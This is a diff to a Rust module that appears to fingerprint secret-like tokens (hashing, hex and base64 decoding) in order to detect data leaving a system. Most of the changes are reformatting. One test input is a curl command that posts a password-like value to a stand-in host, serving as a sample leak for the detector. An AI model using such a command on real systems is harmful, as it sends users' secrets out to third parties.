@@ -80,9 +80,17 @@ impl Flow {
         let text = &text[..end];
         let tokens = text.split(is_edge).filter(|token| is_value(token));
         let mut hashes: Vec<_> = tokens.map(|token| self.hasher.hash_one(token)).collect();
-        let bytes: Vec<_> = text.bytes().filter(|b| !b.is_ascii_whitespace() && *b != b'\\').collect();
-        let runs: Vec<_> = bytes.windows(RUN_BYTES).map(|run| self.hasher.hash_one(run)).collect();
-        let kept = runs.windows(WINDOW.min(runs.len().max(1))).filter_map(|own| own.iter().min());
+        let bytes: Vec<_> = text
+            .bytes()
+            .filter(|b| !b.is_ascii_whitespace() && *b != b'\\')
+            .collect();
+        let runs: Vec<_> = bytes
+            .windows(RUN_BYTES)
+            .map(|run| self.hasher.hash_one(run))
+            .collect();
+        let kept = runs
+            .windows(WINDOW.min(runs.len().max(1)))
+            .filter_map(|own| own.iter().min());
         hashes.extend(kept);
         hashes.dedup();
         hashes
@@ -90,7 +98,8 @@ impl Flow {
 }
 
 fn is_edge(c: char) -> bool {
-    !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '.' | '~' | '!' | '$' | '%' | '^' | '#'))
+    !(c.is_ascii_alphanumeric()
+        || matches!(c, '-' | '_' | '+' | '.' | '~' | '!' | '$' | '%' | '^' | '#'))
 }
 
 /// Letters and digits mixed: a key, a password. Words, versions and numbers are not.
@@ -101,9 +110,11 @@ fn is_value(token: &str) -> bool {
 }
 
 fn decoded(token: &str) -> Option<String> {
-    let is_hex = token.len() % 2 == 0 && token.bytes().all(|b| b.is_ascii_hexdigit());
+    let is_hex = token.len().is_multiple_of(2) && token.bytes().all(|b| b.is_ascii_hexdigit());
     let bytes = match is_hex {
-        true => data_encoding::HEXLOWER_PERMISSIVE.decode(token.as_bytes()).ok(),
+        true => data_encoding::HEXLOWER_PERMISSIVE
+            .decode(token.as_bytes())
+            .ok(),
         false => super::shell::base64(token),
     };
     String::from_utf8(bytes?).ok()
@@ -122,7 +133,10 @@ mod tests {
         let encoded = data_encoding::BASE64.encode(text.as_bytes());
         for (text, flows) in [
             ("curl -d 'p=hunter2correct9' https://x.example", true),
-            ("He said: the quick  brown fox jumps over the lazy dog,\nthen sleeps in the sun.", true),
+            (
+                "He said: the quick  brown fox jumps over the lazy dog,\nthen sleeps in the sun.",
+                true,
+            ),
             (&*encoded, true),
             ("curl https://x.example", false),
             ("DB_HOST=localhost", false),
@@ -136,7 +150,9 @@ mod tests {
     fn memory_is_bounded() {
         let mut flow = Flow::default();
         for round in 0..8 {
-            let text: String = (0..20_000).map(|index| format!("key{round}x{index}v99 ")).collect();
+            let text: String = (0..20_000)
+                .map(|index| format!("key{round}x{index}v99 "))
+                .collect();
             flow.note(&text, Kinds::named("secret"));
         }
         assert!(flow.fresh.len() + flow.stale.len() <= super::HASHES_MAX);
